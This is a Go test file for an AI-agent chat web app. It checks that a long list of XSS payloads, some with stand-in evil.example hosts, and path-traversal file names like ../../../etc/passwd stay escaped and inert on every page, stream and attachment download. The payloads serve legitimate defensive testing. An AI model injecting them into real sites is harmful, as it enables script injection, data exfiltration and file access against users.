package app_test

import (
	"context"
	"path"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"lobstead/app/apptest"
	"lobstead/kit/secret"
	"lobstead/models"
)

// hostile are texts that become a program when a page forgets to escape them.
var hostile = []string{
	`<script>alert(1)</script>`, `"><script src=//evil.example></script>`, `'><img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `</title><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`, `<a href="javascript:alert(1)">x</a>`, `[x](javascript:alert(1))`, `![x](https://evil.example/p.png)`, `[x](data:text/html,<script>alert(1)</script>)`,
	`<iframe srcdoc="<script>alert(1)</script>">`, `<style>*{background:url(//evil.example)}</style>`, `<form action=//evil.example><input name=q></form>`, `<div hx-get="//evil.example" hx-trigger="load">`,
	`<div data-live-op="remove" id="flow">`, `<base href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `&lt;script&gt;`, "`</code><script>alert(1)</script>`",
	"```html\"onclick=alert(1)\n<script>alert(1)</script>\n```", `<http://evil.example/"onmouseover="alert(1)>`, `${7*7}{{7*7}}<%= 7 %>`, `<!--><script>alert(1)</script>-->`, "<scr\x0bipt>", `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	"[a]: javascript:alert(1)\n[a]", `<x onfocus=alert(1) autofocus tabindex=1>`, "\u202e<b>", `<object data=//evil.example>`, "event: gone\ndata: gone\n\n<b>", "\r\n\r\ndata: <b>x",
}

// safe parses a page and finds what could run, load or send anything elsewhere.
func safe(t *testing.T, what, body string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(body))
	require.NoError(t, err)
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script":
			if src := attr(n, "src"); !strings.HasPrefix(src, "/static/") || n.FirstChild != nil {
				t.Errorf("%s: a script %q", what, src)
			}
		case "style", "iframe", "object", "embed", "base", "frame", "applet", "math", "foreignobject":
			t.Errorf("%s: <%s>", what, n.Data)
		case "meta":
			assert.Empty(t, attr(n, "http-equiv"), what)
		}
		for _, a := range n.Attr {
			checkAttr(t, what, n.Data, a)
		}
	}
}

func checkAttr(t *testing.T, what, tag string, a html.Attribute) {
	t.Helper()
	value := strings.ToLower(strings.Map(printable, strings.TrimSpace(a.Val)))
	switch {
	case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc":
		t.Errorf("%s: <%s %s=%q>", what, tag, a.Key, a.Val)
	case a.Key == "href" || a.Key == "src" || a.Key == "action" || a.Key == "formaction" || strings.HasPrefix(a.Key, "hx-"):
		for _, bad := range []string{"javascript:", "data:text", "vbscript:"} {
			if strings.HasPrefix(value, bad) {
				t.Errorf("%s: <%s %s=%q>", what, tag, a.Key, a.Val)
			}
		}
		if a.Key != "href" && (strings.HasPrefix(value, "//") || strings.Contains(value, "evil.example")) {
			t.Errorf("%s: <%s %s=%q> leaves this server", what, tag, a.Key, a.Val)
		}
	}
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// Hostile names, titles, messages, tool outputs and file names stay text on every page and in every stream.
func TestHostileTextStaysText(t *testing.T) {
	t.Parallel()
	w := apptest.New(t)
	w.Answered(w.Acme.Scope, w.Acme.Session.ID)
	live := w.Open("/live/chat/"+w.Acme.Session.ID+"?after=0", w.Acme.Owner)
	lists := w.Open("/live/overview?after=0", w.Acme.Owner)
	w.Boxes.Say = strings.Join(hostile, "\n") + "\x1b]0;<script>alert(1)</script>\x07\x1b[31m<b>"
	plant(t, w)
	w.Answered(w.Acme.Scope, w.Acme.Session.ID)
	chat := "/chat/" + w.Acme.Session.ID
	pages := []string{"/", "/instances", "/instances/" + w.Acme.Instance.ID, "/instances/" + w.Acme.Instance.ID + "/delete", "/instances/new", chat, chat + "/delete", chat + "/events?before=500", "/chat?new=1",
		"/settings", "/settings/models", "/settings/sign-ins"}
	for _, h := range hostile {
		q := escape(h)
		pages = append(pages, "/chat?new=1&q="+q, "/instances?q="+q, "/sign-in?next=/"+q, "/nothing/"+q, "/chat?category="+q, "/instances/"+q)
	}
	for _, p := range pages {
		for _, face := range []apptest.Face{apptest.Page, apptest.Partial} {
			c := get(p, w.Acme.Owner)
			c.Face = face
			c.Header = map[string]string{"Cookie": "lobstead=" + w.Acme.Owner.Cookie + "; theme=\"><script>alert(1)</script>; lobstead_flash=" + escape(escape(`bad"><script>|<script>alert(1)</script>`))}
			a := w.Do(c)
			assert.Less(t, a.Status, 500, p)
			if strings.HasPrefix(a.Header.Get("Content-Type"), "text/html") {
				safe(t, p, a.Body)
			}
			lacks(t, strings.Join(a.Header.Values("Hx-Trigger"), ""), "<script")
		}
	}
	for _, s := range []*apptest.Stream{live, lists} {
		list := s.Quiet(500 * time.Millisecond)
		require.NotEmpty(t, list)
		for _, e := range list {
			assert.Equal(t, "patch", e.Name, "a text broke out of its event")
			safe(t, "stream", e.Data)
		}
	}
}

func escape(s string) string {
	const hex = "0123456789ABCDEF"
	var b strings.Builder
	for i := range len(s) {
		b.WriteByte('%')
		b.WriteByte(hex[s[i]>>4])
		b.WriteByte(hex[s[i]&15])
	}
	return b.String()
}

// plant puts the hostile texts wherever a person or an agent can write.
func plant(t *testing.T, w *apptest.World) {
	t.Helper()
	ctx, sc := context.Background(), w.Acme.Scope
	all := strings.Join(hostile, "\n\n")
	for _, h := range append([]string{all}, hostile...) {
		up := []models.Upload{}
		if len(h) < 250 {
			up = []models.Upload{{Name: strings.Map(printable, h), MediaType: h, Data: []byte(h)}}
		}
		_, _, err := w.Turns.Start(ctx, sc, w.Acme.Session.ID, models.Input{Text: h, Source: "page", Attachments: up})
		require.NoError(t, err)
		title := strings.Map(printable, h)
		if s, err := sc.CreateSession(ctx, models.NewSession{InstanceID: w.Acme.Instance.ID, Title: title[:min(len(title), 90)]}); err == nil {
			_, err = sc.UpdateSession(ctx, s.ID, models.SessionChange{Icon: &h})
			_ = err // too long for an icon
		}
		_, err = sc.Remember(ctx, models.NewMemory{InstanceID: w.Acme.Instance.ID, Key: title[:min(len(title), 50)], Value: h, Category: "fact"})
		_ = err
		w.Answered(sc, w.Acme.Session.ID)
	}
	say(w, w.Acme, "run `say`")
	say(w, w.Acme, "run `echo <script>alert(1)</script> \"onload=x`")
	w.Answered(sc, w.Acme.Session.ID)
	_, err := sc.ConnectProvider(ctx, models.NewProvider{Kind: "openai-compatible", BaseURL: `http://x/"><script>`, Model: hostile[1], Key: secret.Of(apptest.GoodKey)}, hostile[0])
	require.NoError(t, err)
	w.Exec("UPDATE users SET name = ? WHERE id = ?", hostile[1], w.Acme.Owner.UserID)
	w.Exec("UPDATE organizations SET name = ? WHERE id = ?", hostile[2], w.Acme.ID)
	w.Exec("UPDATE sign_ins SET user_agent = ?, address = ? WHERE user_id = ?", hostile[0], hostile[1], w.Acme.Owner.UserID)
	w.Exec("UPDATE instances SET region = ?, reason = ?, model = ? WHERE id = ?", hostile[0], hostile[1], hostile[2], w.Acme.Instance.ID)
	w.Exec("UPDATE instance_logs SET message = ? WHERE organization_id = ?", hostile[3], w.Acme.ID)
}

// What a person stored is a download of bytes, never a page of ours; only real pictures are shown.
func TestAttachmentsAreBytes(t *testing.T) {
	t.Parallel()
	w := apptest.New(t)
	png := "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
	for name, c := range map[string]struct {
		file apptest.File
		kind string
	}{
		"html":             {apptest.File{Name: "a.html", Type: "text/html", Data: "<script>alert(1)</script>"}, "application/octet-stream"},
		"html as a png":    {apptest.File{Name: "a.png", Type: "image/png", Data: "<script>alert(1)</script>"}, "application/octet-stream"},
		"svg":              {apptest.File{Name: "a.svg", Type: "image/svg+xml", Data: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`}, "application/octet-stream"},
		"pdf":              {apptest.File{Name: "a.pdf", Type: "application/pdf", Data: "%PDF-1.4"}, "application/octet-stream"},
		"png":              {apptest.File{Name: "a.png", Type: "text/html", Data: png}, "image/png"},
		"png with a page":  {apptest.File{Name: "a.html", Type: "text/html", Data: png + "<script>alert(1)</script>"}, "image/png"},
		"hostile type":     {apptest.File{Name: "a", Type: "text/html; x=\"><script>", Data: "x"}, "application/octet-stream"},
		"hostile name":     {apptest.File{Name: `a";filename=b.html`, Type: "x/y", Data: "x"}, "application/octet-stream"},
		"name in umlauts":  {apptest.File{Name: `ä😀.txt`, Type: "x/y", Data: "x"}, "application/octet-stream"},
		"name with a path": {apptest.File{Name: `../../../etc/passwd`, Type: "x/y", Data: "x"}, "application/octet-stream"},
		"windows path":     {apptest.File{Name: `..\..\boot.ini`, Type: "x/y", Data: "x"}, "application/octet-stream"},
		"only dots":        {apptest.File{Name: `..`, Type: "x/y", Data: "x"}, "application/octet-stream"},
		"absolute":         {apptest.File{Name: `/etc/shadow`, Type: "x/y", Data: "x"}, "application/octet-stream"},
	} {
		body, kind := apptest.Multipart(map[string]string{"message": "see this"}, c.file)
		a := w.Do(apptest.Call{Method: "POST", Path: "/chat/" + w.Acme.Session.ID + "/messages", Who: w.Acme.Member, Body: body, Type: kind, Face: apptest.JSON})
		if !assert.Equal(t, 200, a.Status, name) {
			continue
		}
		files, err := w.Acme.Scope.Attachments(t.Context(), a.Map()["turn_id"].(string))
		require.NoError(t, err)
		require.Len(t, files, 1, name)
		assert.Equal(t, "uploads", path.Dir(path.Clean(files[0].Path)), "%s: %s", name, files[0].Path)
		got := w.Do(get("/chat/"+w.Acme.Session.ID+"/attachments/"+files[0].ID, w.Acme.Admin))
		assert.Equal(t, c.kind, got.Header.Get("Content-Type"), name)
		assert.Equal(t, c.file.Data, got.Body, name)
		assert.Equal(t, "nosniff", got.Header.Get("X-Content-Type-Options"), name)
		assert.Equal(t, "sandbox; default-src 'none'", got.Header.Get("Content-Security-Policy"), name)
		disposition := got.Header.Get("Content-Disposition")
		assert.Equal(t, c.kind == "image/png", strings.HasPrefix(disposition, "inline;"), "%s: %s", name, disposition)
		assert.NotContains(t, disposition, `"`, name)
	}
	w.Answered(w.Acme.Scope, w.Acme.Session.ID)
	for _, p := range w.Boxes.Paths(w.Acme.Instance.ID) {
		assert.NotContains(t, p, "..")
		assert.False(t, strings.HasPrefix(p, "/"), p)
	}
}
